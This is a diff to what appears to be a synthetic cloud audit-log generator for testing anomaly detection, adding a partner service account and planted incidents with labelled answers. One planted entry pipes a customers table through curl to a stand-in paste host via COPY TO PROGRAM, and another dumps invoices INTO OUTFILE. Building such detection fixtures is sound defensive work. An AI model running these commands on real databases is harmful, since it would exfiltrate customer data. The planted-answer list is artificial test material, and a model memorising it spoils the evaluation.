@@ -129,12 +129,14 @@ class Writer {
   }
 
   // --- GCS data access (formats.md §2) -------------------------------------------------------
-  gcs(o: { time: Date; bucket: string; method: string; object?: string; principal?: string; delegates?: string[]; callerIp: string; userAgent: string; denied?: boolean }): Entry {
+  gcs(o: { time: Date; bucket: string; method: string; object?: string; principal?: string; delegates?: string[]; keyId?: string; callerIp: string; userAgent: string; denied?: boolean }): Entry {
     const resourceName = `projects/_/buckets/${o.bucket}${o.object !== undefined ? `/objects/${o.object}` : ''}`;
     const ts = o.time.toISOString();
     const authenticationInfo: Entry = {};
     if (o.principal) authenticationInfo['principalEmail'] = o.principal;
     if (o.delegates) authenticationInfo['serviceAccountDelegationInfo'] = o.delegates.map((d) => ({ firstPartyPrincipal: { principalEmail: d } }));
+    // A call signed with a service-account key file names the key (formats.md §2).
+    if (o.keyId && o.principal) authenticationInfo['serviceAccountKeyName'] = `//iam.googleapis.com/projects/${this.n.project}/serviceAccounts/${o.principal}/keys/${o.keyId}`;
     const authz: Entry = { permission: o.method, resource: resourceName, resourceAttributes: {} };
     if (!o.denied) authz['granted'] = true;
     return {
@@ -372,6 +374,10 @@ function world(w: Writer) {
     reporting: w.sa('reporting'),
     ci: w.sa('ci-deployer'),
     ordersApi: w.sa('orders-api'),
+    // A partner's nightly sync, signed with a service-account key file from the partner's address.
+    partnerSync: w.sa('partner-sync'),
+    partnerIp: '203.0.113.77',
+    partnerKey: w.hex(40),
     alice: `alice@${n.domain}`,
     bob: `bob@${n.domain}`,
     deployer: `release-bot@${n.domain}`,
@@ -404,6 +410,8 @@ function normalHour(w: Writer, W: ReturnType<typeof world>, hour: Hour, options:
   // Analysts from the office NAT pool (several addresses of one /24) and from IPv6 with privacy addresses.
   if (w.int(0, 2) > 0) gcs.push(w.gcs({ time: t(), bucket: n.reportsBucket, method: w.pick(['storage.objects.get', 'storage.objects.list']), object: `q${w.int(1, 4)}/board-pack.xlsx`, principal: W.alice, callerIp: W.officePrefix + w.int(10, 13), userAgent: 'Mozilla/5.0 (Macintosh) Chrome/131.0' }));
   if (w.int(0, 2) > 0) gcs.push(w.gcs({ time: t(), bucket: n.datasetsBucket, method: 'storage.objects.get', object: `train/shard-${w.int(0, 999)}.tfrecord`, principal: W.bob, callerIp: W.bobPrefix + `${w.hex(4)}:${w.hex(4)}:${w.hex(4)}:${w.hex(4)}`, userAgent: 'gsutil/5.27' }));
+  // A partner's sync reads exports with its key file from its fixed address, most hours.
+  if (w.int(0, 2) > 0) gcs.push(w.gcs({ time: t(), bucket: n.reportsBucket, method: 'storage.objects.get', object: `exports/partner/${w.int(1, 28)}.csv`, principal: W.partnerSync, keyId: W.partnerKey, callerIp: W.partnerIp, userAgent: 'rclone/v1.66.0' }));
   // CI writes models by impersonating a service account from VMs in another project (gce-internal-ip).
   if (w.int(0, 3) === 0) gcs.push(w.gcs({ time: t(), bucket: n.datasetsBucket, method: 'storage.objects.create', object: `models/${w.hex(8)}/saved_model.pb`, principal: W.ci, delegates: [W.deployer], callerIp: 'gce-internal-ip', userAgent: 'terraform/1.9' }));
   // An occasional denied call from a known caller (misconfigured path) stays quiet.
@@ -412,11 +420,26 @@ function normalHour(w: Writer, W: ReturnType<typeof world>, hour: Hour, options:
   // Cloud SQL: orders API pods connect through the Auth Proxy and log in to PostgreSQL; pod IPs churn.
   const podIp = () => w.pick(W.podNodeNets) + w.int(2, 250);
   for (let i = 0; i < per(2); i++) sql.push(...w.postgresConnection({ time: t(), instance: n.pgInstance, host: podIp(), user: 'orders_app', database: 'orders' }));
-  for (let i = 0; i < per(2); i++) sql.push(w.pgaudit({ time: t(), instance: n.pgInstance, user: 'orders_app', database: 'orders', auditClass: w.pick(['READ', 'WRITE']), command: w.pick(['SELECT', 'INSERT', 'UPDATE']), statement: `SELECT id, status FROM orders WHERE id = $${w.int(1, 3)}` }));
+  // pgAudit: the orders API's routine statements, with other literals and IN-list lengths every time.
+  for (let i = 0; i < per(2); i++) {
+    const id = w.int(1000, 99999);
+    const routine: [string, string, string][] = [
+      ['READ', 'SELECT', `SELECT id, status, total FROM orders WHERE id = ${id}`],
+      ['READ', 'SELECT', `SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.id IN (${Array.from({ length: w.int(1, 6) }, () => w.int(1000, 99999)).join(', ')})`],
+      ['WRITE', 'INSERT', `INSERT INTO orders (customer_id, total, status) VALUES (${w.int(1, 5000)}, ${w.int(5, 900)}.${w.int(10, 99)}, 'new')`],
+      ['WRITE', 'UPDATE', `UPDATE orders SET status = '${w.pick(['paid', 'shipped', 'cancelled'])}' WHERE id = ${id}`],
+    ];
+    const [auditClass, command, statement] = w.pick(routine);
+    sql.push(w.pgaudit({ time: t(), instance: n.pgInstance, user: 'orders_app', database: 'orders', auditClass, command, statement }));
+  }
   if (w.int(0, 1) === 0) sql.push(w.sqlConnect({ time: t(), instance: n.pgInstance, principal: W.ordersApi, callerIp: W.ordersProxyVmIp }));
   if (w.int(0, 2) === 0) sql.push(w.sqlLogin({ time: t(), instance: n.pgInstance, principal: W.reporting, clientIp: W.loginVmIp, database: 'orders' }));
   sql.push(w.postgresNoise({ time: t(), instance: n.pgInstance }));
-  for (let i = 0; i < per(2); i++) sql.push(w.mysql({ time: t(), instance: n.mysqlInstance, user: 'billing', ip: W.billingVmIp, cmd: w.pick(['connect', 'query', 'query']), query: 'SELECT * FROM invoices WHERE account_id = ?', db: 'billing' }));
+  for (let i = 0; i < per(2); i++) {
+    const cmd = w.pick(['connect', 'query', 'query']);
+    const query = w.pick([`SELECT * FROM invoices WHERE account_id = ${w.int(1, 9000)}`, `UPDATE invoices SET paid_at = NOW() WHERE id IN (${Array.from({ length: w.int(1, 4) }, () => w.int(1, 90000)).join(',')})`]);
+    sql.push(w.mysql({ time: t(), instance: n.mysqlInstance, user: 'billing', ip: W.billingVmIp, cmd, ...(cmd === 'query' ? { query } : {}), db: 'billing' }));
+  }
   // Cloud SQL's own maintenance users: constant noise that must be ignored.
   sql.push(w.mysql({ time: t(), instance: n.mysqlInstance, user: 'cloudsqladmin', ip: '127.0.0.1', cmd: 'query', query: 'SELECT 1' }));
 
@@ -496,6 +519,16 @@ function plantAnomalies(w: Writer, W: ReturnType<typeof world>, hours: Hour[]): 
   });
   planted.push({ kind: 'vpc-flow', type: 'not-baselined', target: `${newRedis}:6379`, source: '*', credential: null, story: 'new Redis instance without a baseline' });
 
+  // 11. The orders API's own database user runs COPY … TO PROGRAM: a statement it never ran, and never routine.
+  at(16).entries.sql.push(w.pgaudit({ time: at(16).time(12), instance: n.pgInstance, user: 'orders_app', database: 'orders', auditClass: 'READ', command: 'COPY', statement: "COPY customers TO PROGRAM 'curl -sT - https://paste.example/u'" }));
+  planted.push({ kind: 'cloudsql', type: 'new-statement', target: `${n.project}:${n.pgInstance}`, source: 'unrecorded', credential: 'db-user:orders_app', story: 'known database user pipes customers to a program' });
+  // 12. The billing user, from its usual VM, writes invoices to a file on the server: a known kind, a never-routine shape.
+  at(18).entries.sql.push(w.mysql({ time: at(18).time(3), instance: n.mysqlInstance, user: 'billing', ip: W.billingVmIp, cmd: 'query', query: "SELECT * FROM invoices INTO OUTFILE '/var/lib/mysql-files/invoices.csv'", db: 'billing' }));
+  planted.push({ kind: 'cloudsql', type: 'new-statement', target: `${n.project}:${n.mysqlInstance}`, source: `ip:${W.billingVmIp}`, credential: 'db-user:billing', story: 'known MySQL user writes a table to a server file' });
+  // 13. The partner's service account, with a key nobody has seen, from a new address: a stolen key.
+  const stolenKey = w.hex(40);
+  some(2, () => at(21).entries.gcs.push(w.gcs({ time: at(21).time(w.int(0, 59)), bucket: n.reportsBucket, method: 'storage.objects.get', object: `exports/partner/${w.int(1, 28)}.csv`, principal: W.partnerSync, keyId: stolenKey, callerIp: '203.0.113.201', userAgent: 'python-requests/2.31.0' })));
+  planted.push({ kind: 'gcs', type: 'new-source', target: n.reportsBucket, source: 'ip:203.0.113.201', credential: W.partnerSync, story: `stolen service-account key …${stolenKey.slice(-6)} used from a new address` });
   return planted;
 }
 
@@ -509,6 +542,10 @@ function benignChurn(w: Writer, W: ReturnType<typeof world>, hours: Hour[]): voi
   h.entries.gcs.push(w.gcs({ time: h.time(6), bucket: n.datasetsBucket, method: 'storage.objects.get', object: 'train/shard-1.tfrecord', principal: W.bob, callerIp: `${W.bobPrefix}${w.hex(4)}:${w.hex(4)}:${w.hex(4)}:1`, userAgent: 'gsutil/5.27' }));
   // A postgres connection from a new pod IP on a known node range.
   h.entries.sql.push(...w.postgresConnection({ time: h.time(8), instance: n.pgInstance, host: `${W.podNodeNets[1]}251`, user: 'orders_app', database: 'orders' }));
+  // The partner rotated its key: a new key from the usual address.
+  h.entries.gcs.push(w.gcs({ time: h.time(11), bucket: n.reportsBucket, method: 'storage.objects.get', object: 'exports/partner/3.csv', principal: W.partnerSync, keyId: w.hex(40), callerIp: W.partnerIp, userAgent: 'rclone/v1.66.0' }));
+  // Routine statements with literals never seen before.
+  h.entries.sql.push(w.pgaudit({ time: h.time(12), instance: n.pgInstance, user: 'orders_app', database: 'orders', auditClass: 'READ', command: 'SELECT', statement: 'SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.id IN (1, 2, 3, 4, 5, 6, 7, 8, 9)' }));
   // A single mistyped password from the app's known range: not a burst, known user and range.
   h.entries.sql.push(...w.postgresConnection({ time: h.time(9), instance: n.pgInstance, host: `${W.podNodeNets[0]}77`, user: 'orders_app', database: 'orders', failed: true }));
 }
